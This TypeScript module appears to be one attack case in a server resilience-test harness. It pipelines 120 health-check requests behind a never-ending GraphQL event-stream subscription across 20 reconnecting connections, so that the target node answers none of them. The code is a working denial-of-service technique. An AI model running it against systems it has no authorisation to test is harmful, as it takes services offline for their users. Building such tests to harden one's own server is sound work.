import { once } from 'node:events';
import { connect, httpGet, inParallel, pause, type Attack } from '../target.ts';

const CONNECTIONS = 20;
const BEHIND = 120;
const QUERY = encodeURIComponent('subscription { feed { cursor } }');
const BYTES =
  httpGet(`/graphql?query=${QUERY}`, { Accept: 'text/event-stream' }) +
  httpGet('/health/live').repeat(BEHIND);

/**
 * Requests behind an event stream, which never ends, so that the node can answer none of them. A connection that the node closes
 * comes again after a second.
 */
export const streams: Attack = async (target) => {
  await inParallel(target, CONNECTIONS, async () => {
    const socket = await connect(target);
    socket.once('data', (data) => target.saw(data.toString('latin1', 9, 12)));
    socket.write(BYTES);
    await once(socket, 'close');
    target.saw('cut off');
    await pause(target, 1_000);
  });
};
